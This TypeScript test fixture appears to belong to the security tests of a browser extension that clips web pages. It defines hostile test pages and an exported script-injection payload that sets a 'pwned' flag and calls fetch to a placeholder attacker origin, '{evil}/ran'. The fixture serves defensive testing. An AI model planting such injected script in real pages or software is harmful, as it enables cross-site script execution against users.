/** One page that means harm. `{evil}` in its texts becomes another origin, which nobody may ever ask for anything. */
import type { Clip } from '../../../protocol/clip.ts';

export type HostilePage = {
  /** What it tries. */
  name: string;
  /** Behind `<!doctype html><html lang=…>`; its title is how the clip is found again. */
  html: string;
  lang?: string;
  headers?: Readonly<Record<string, string>>;
  /** What must be so of the clip that a person made of it, beside what must be so of all. */
  clip?: (clip: Clip, page: { address: string }) => boolean;
};

/** Runs wherever a text of the page is taken for markup or for a program: `pwned` is looked for in every extension page. */
export const PAYLOAD = 'globalThis.pwned=1;if(location.protocol!="http:")fetch("{evil}/ran")';

/** Text of a story, so that pages are read as stories. */
export const STORY =
  '<p>Seit Montag lernen in der neuen Werkstatt vierzehn junge Menschen, was Pumpen bewegt und wie sie gebaut werden.</p>'.repeat(
    3,
  );

/** A page with a heading, a story, and something in its head. */
export const page = (title: string, head: string, body = ''): string =>
  `<meta charset="utf-8">${head}<title>${title}</title><main><article><h1>${title}</h1>${STORY}${body}</article></main>`;

export const escaped = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
